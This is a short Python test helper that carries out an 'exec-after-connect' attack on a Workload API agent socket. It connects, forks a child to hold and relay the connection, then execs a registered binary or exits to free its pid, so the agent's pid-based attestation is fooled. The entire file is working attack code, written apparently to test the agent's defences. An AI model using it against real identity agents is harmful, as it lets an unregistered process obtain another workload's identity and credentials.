"""The exec-after-connect attack on a Workload API socket (stdlib only).

usage: exec_after_connect.py AGENT_SOCKET RELAY_SOCKET (EXEC_PATH | later:EXEC_PATH | --stay | --exit)

This process connects to the agent's socket, so the agent attests *this*
pid. It forks a child that keeps the connection and relays it to
RELAY_SOCKET, where the test's own gRPC client talks through it. Then this
process execs EXEC_PATH (a registered binary) with the argument "30": from
then on its pid runs the registered binary, while the child — not the
binary — holds the connection. With later:EXEC_PATH it execs only once a
line arrives on stdin (after the test has opened a stream); with --stay it
keeps running as itself (the control case); with --exit it exits once a
line arrives on stdin (its pid is then free for reuse while the child still
relays the connection it made).

Prints "ready <pid>" once the agent has accepted the connection (its HTTP/2
SETTINGS frame arrived) and the relay listens.
"""

import os
import select
import socket
import sys


def pump(a, b):
    """Copies bytes both ways until either side closes."""
    while True:
        readable, _, _ = select.select([a, b], [], [])
        for src in readable:
            dst = b if src is a else a
            data = src.recv(65536)
            if not data:
                return
            dst.sendall(data)


def main():
    agent_path, relay_path, target = sys.argv[1], sys.argv[2], sys.argv[3]
    conn = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    conn.connect(agent_path)
    # The server's SETTINGS frame: the agent has accepted the connection
    # (and pinned this process) before anything else happens.
    first = conn.recv(65536)
    if not first:
        sys.exit("the agent closed the connection")
    listener = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    listener.bind(relay_path)
    listener.listen(1)
    if os.fork() == 0:
        client, _ = listener.accept()
        client.sendall(first)
        pump(client, conn)
        os._exit(0)
    listener.close()
    conn.close()  # only the child holds the connection now
    print(f"ready {os.getpid()}", flush=True)
    if target == "--stay":
        select.select([], [], [], 30)
        return
    if target == "--exit":
        sys.stdin.readline()
        return
    if target.startswith("later:"):
        target = target[len("later:"):]
        sys.stdin.readline()
    os.execv(target, [target, "30"])


if __name__ == "__main__":
    main()
